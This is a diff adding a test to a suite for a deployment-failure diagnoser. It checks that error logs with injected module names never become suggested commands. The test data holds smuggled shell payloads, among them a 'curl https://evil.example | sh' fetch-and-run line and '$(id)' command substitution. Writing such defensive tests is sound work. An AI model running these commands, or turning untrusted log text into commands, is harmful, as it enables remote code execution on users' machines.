@@ -203,6 +203,15 @@ describe('the cause of a failed deployment', () => {
     expect(found.fix).toContain(fix);
   });
 
+  test.each([
+    "Error: Cannot find module 'x; curl https://evil.example | sh'",
+    "Error: Cannot find module '--unsafe-perm'",
+    "Error: Cannot find module '$(id)'",
+    "ModuleNotFoundError: No module named 'x; curl https://evil.example | sh'",
+  ])('never makes a command of what only a log says: %s', (log) => {
+    expect(diagnose(failed('start', START), log).fix).not.toMatch(/curl|unsafe|\$\(|```/);
+  });
+
   test('that is not known is left to the lines of the log and the step’s advice', () => {
     const found = diagnose(
       failed('health', 'The health step failed: /x answered 500 for 30 seconds.'),
